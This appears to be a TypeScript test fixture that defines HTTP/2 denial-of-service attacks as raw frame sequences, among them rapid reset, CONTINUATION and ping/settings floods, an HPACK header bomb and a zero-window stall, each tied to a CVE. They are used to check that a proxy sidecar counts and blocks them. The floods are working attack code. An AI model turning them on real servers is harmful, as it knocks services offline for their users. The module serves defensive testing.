import { until } from '../fixture/wait.ts';
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  keptField,
  type RawSession,
  requestBlock,
  uint32,
} from './raw-frames.ts';

/** Frames that are written at once. */
const BATCH = 50;
/** Of each attack, far above what a sound client does. */
const BATCHES = 20_000;
const CANCEL = uint32(0x8);

/** What an attacker sends on its connection, and by what name the sidecar counts it. */
export interface Attack {
  /** Values of the label `protection`, one of which counts it; none: it `holds`. */
  readonly protections: readonly string[];
  /** What the attacker hopes for. */
  readonly aim: string;
  /** The attacker does not read, so that it sees no GOAWAY. */
  readonly deaf?: boolean;
  /** It does nothing that a slow client may not do for minutes: it is borne, and must cost little. */
  readonly holds?: boolean;
  /** Payload of the attacker's SETTINGS. */
  readonly settings?: Buffer;
  send(session: RawSession): Promise<void>;
}

/** Writes batches of frames until the connection is over. */
async function flood(session: RawSession, batch: (round: number) => Buffer): Promise<void> {
  for (let round = 0; round < BATCHES; round++) if (!(await session.write(batch(round)))) return;
}

function repeated(bytes: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: BATCH }, () => bytes));
}

/** Responses that are asked for and not taken. */
const STALLED = 100;

/** SETTINGS_INITIAL_WINDOW_SIZE of 0. */
const NO_WINDOW = Buffer.from([0, 4, 0, 0, 0, 0]);

/** A request with a body to come, on stream 1. */
const OPEN = frame(FRAME.headers, END_HEADERS, 1, requestBlock('POST', '/held'));

/** Odd ids, one after the other. */
function streamId(round: number, index: number): number {
  return (round * BATCH + index) * 2 + 1;
}

export const ATTACKS: readonly Attack[] = [
  {
    protections: ['rapid-reset'],
    aim: 'makes the upstream begin work that it takes back at once (CVE-2023-44487)',
    send: (session) =>
      flood(session, (round) =>
        Buffer.concat(
          Array.from({ length: BATCH }, (_, index) => [
            frame(FRAME.headers, END_HEADERS | END_STREAM, streamId(round, index), requestBlock('GET')),
            frame(FRAME.reset, 0, streamId(round, index), CANCEL),
          ]).flat(),
        ),
      ),
  },
  {
    protections: ['continuation-flood'],
    aim: 'sends a head that never ends (CVE-2024-27316)',
    async send(session) {
      await session.write(frame(FRAME.headers, END_STREAM, 1, requestBlock('GET')));
      await flood(session, () =>
        repeated(frame(FRAME.continuation, 0, 1, keptField('x-more', 'm'.repeat(100)))),
      );
    },
  },
  {
    protections: ['continuation-flood'],
    aim: 'sends a head of empty pieces that never ends',
    async send(session) {
      await session.write(frame(FRAME.headers, END_STREAM, 1, requestBlock('GET')));
      await flood(session, () => repeated(frame(FRAME.continuation, 0, 1)));
    },
  },
  {
    protections: ['header-bomb'],
    aim: 'names one large field of the compression table thousands of times: 16 kB become 64 MB',
    send: (session) =>
      flood(session, (round) => {
        const field = round === 0 ? keptField('x-bomb', 'b'.repeat(4000)) : Buffer.alloc(0);
        const bomb = Buffer.alloc(12_000, 0xbe); // index 62: the newest field of the table
        const block = Buffer.concat([requestBlock('GET'), field, bomb]);
        return frame(FRAME.headers, END_HEADERS | END_STREAM, round * 2 + 1, block);
      }),
  },
  {
    protections: ['ping-flood'],
    aim: 'has every PING answered (CVE-2019-9512)',
    send: (session) => flood(session, () => repeated(frame(FRAME.ping, 0, 0, Buffer.alloc(8)))),
  },
  {
    protections: ['settings-flood'],
    aim: 'has every SETTINGS acknowledged (CVE-2019-9515)',
    send: (session) => flood(session, () => repeated(frame(FRAME.settings, 0, 0))),
  },
  {
    protections: ['empty-frames'],
    aim: 'sends DATA without bytes and without an end (CVE-2019-9518)',
    async send(session) {
      await session.write(OPEN);
      await flood(session, () => repeated(frame(FRAME.data, 0, 1)));
    },
  },
  {
    protections: ['window-flood'],
    aim: 'opens the window byte by byte',
    send: (session) => flood(session, () => repeated(frame(FRAME.window, 0, 0, uint32(1)))),
  },
  {
    protections: ['priority-flood'],
    aim: 'shuffles priorities that nobody uses (CVE-2019-9513)',
    send: (session) =>
      flood(session, (round) =>
        Buffer.concat(
          Array.from({ length: BATCH }, (_, index) =>
            frame(
              FRAME.priority,
              0,
              streamId(round % 1000, index),
              Buffer.concat([uint32(0), Buffer.from([1])]),
            ),
          ),
        ),
      ),
  },
  {
    protections: ['too-many-streams', 'rapid-reset'],
    aim: 'opens streams without regard to the limit that it was told',
    send: (session) =>
      flood(session, (round) =>
        Buffer.concat(
          Array.from({ length: BATCH }, (_, index) =>
            frame(FRAME.headers, END_HEADERS, streamId(round, index), requestBlock('POST', '/held')),
          ),
        ),
      ),
  },
  {
    protections: ['output-flood', 'ping-flood', 'settings-flood'],
    aim: 'asks for answers that it does not read, until they fill the memory (CVE-2019-9517)',
    deaf: true,
    async send(session) {
      session.socket.pause();
      const pair = Buffer.concat([frame(FRAME.ping, 0, 0, Buffer.alloc(8)), frame(FRAME.settings, 0, 0)]);
      await flood(session, () => repeated(pair));
      session.socket.resume();
    },
  },
  {
    // That it is given up after `stalledMs` is tested where the clock can leap: protections.test.ts.
    protections: [],
    aim: 'asks for a gigabyte of responses and never opens the window for them (CVE-2019-9511)',
    holds: true,
    settings: NO_WINDOW,
    async send(session) {
      for (let stream = 1; stream < 2 * STALLED; stream += 2)
        await session.write(
          frame(FRAME.headers, END_HEADERS | END_STREAM, stream, requestBlock('GET', '/large')),
        );
      await until('the heads of all responses', () => session.count(FRAME.headers) === STALLED);
    },
  },
];
